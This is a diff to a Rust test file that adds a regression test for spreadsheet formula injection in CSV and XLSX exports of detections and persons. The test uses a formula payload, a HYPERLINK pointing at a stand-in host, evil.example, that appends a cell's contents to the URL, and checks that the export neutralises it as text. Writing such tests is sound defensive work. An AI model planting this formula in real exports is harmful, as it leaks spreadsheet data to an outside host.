@@ -6,7 +6,7 @@ use std::io::Read;
 
 use bytes::Bytes;
 use http_body_util::{BodyExt, Full};
-use serde_json::Value;
+use serde_json::{Value, json};
 
 use crate::helpers::*;
 use crate::report_support::*;
@@ -391,4 +391,45 @@ async fn row_exports_stream_the_filtered_rows_of_each_backend_within_the_callers
         assert_eq!(status, 401);
         app.stop().await;
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_re_id_that_looks_like_a_formula_is_exported_as_text() {
+    let app = spawn_app(Backend::Sqlite).await;
+    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    let r = app
+        .post_json(&json!({"re_id": evil, "branch_id": app.branch(0), "device_id": app.device(0)}))
+        .await;
+    assert_eq!(r.status, 202, "{:?}", r.body);
+    app.wait_completed(r.body["data"]["job_id"].as_str().unwrap())
+        .await;
+    let admin = token(&app, "admin", &[]).await;
+    for path in ["/api/v1/exports/detections", "/api/v1/exports/persons"] {
+        let (status, _, body) = download(&app, &admin, path).await;
+        assert_eq!(status, 200);
+        let text = String::from_utf8(body).unwrap();
+        let fields: Vec<String> = parse_csv(&text).into_iter().flatten().collect();
+        assert!(
+            fields.iter().any(|f| f == &format!("'{evil}")),
+            "{path}: the re_id is written with a leading apostrophe: {fields:?}"
+        );
+        assert!(
+            !fields.iter().any(|f| f.starts_with('=')),
+            "{path}: no field starts a formula"
+        );
+        let (status, _, xlsx) = download(&app, &admin, &format!("{path}?format=xlsx")).await;
+        assert_eq!(status, 200);
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
+        let mut sheet = String::new();
+        zip.by_name("xl/worksheets/sheet1.xml")
+            .unwrap()
+            .read_to_string(&mut sheet)
+            .unwrap();
+        assert!(!sheet.contains("<f>"), "{path}: no formula cell in the workbook");
+        assert!(
+            sheet.contains("HYPERLINK"),
+            "{path}: the re_id is in the sheet, as a string"
+        );
+    }
+    app.stop().await;
 }
